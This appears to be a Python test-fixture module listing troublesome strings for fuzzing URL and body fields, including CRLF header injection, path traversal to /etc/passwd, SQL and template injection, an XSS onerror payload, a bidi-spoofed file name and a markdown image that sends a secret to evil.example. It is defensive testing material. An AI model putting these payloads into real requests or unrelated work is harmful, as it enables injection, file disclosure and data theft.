"""Texts that have broken somebody's program: put into every field that takes text."""

NUL = "a\x00b"
_ONE_MEGABYTE = "x" * 1_000_000

# What a header or a query string can carry.
IN_URLS = [
    NUL,
    "\u202egnp.exe",
    "\u2066\u2069",
    "line\r\nX-Injected: yes",
    "../../../../etc/passwd",
    "..%2f..%2f",
    "' or 1=1; --",
    "%",
    "_",
    "\\",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "![x](https://evil.example/?q=secret)",
    "<img src=x onerror=alert(1)>",
    "\U0001f4a3" * 40,
    "e\u0301" * 100,
    "\ufffe\uffff",
    "\u2028\u2029\x0b\x0c\x1b[31m",
    "0",
    "-1",
    "9223372036854775808",
    "1e309",
    "NaN",
    "null",
    " ",
    "",
]
IN_BODIES = [*IN_URLS, _ONE_MEGABYTE]
# No program but Python can hold these, but JSON can say them.
LONE_SURROGATES = ["\ud800", "a\udfffb", "\udc00\ud800"]
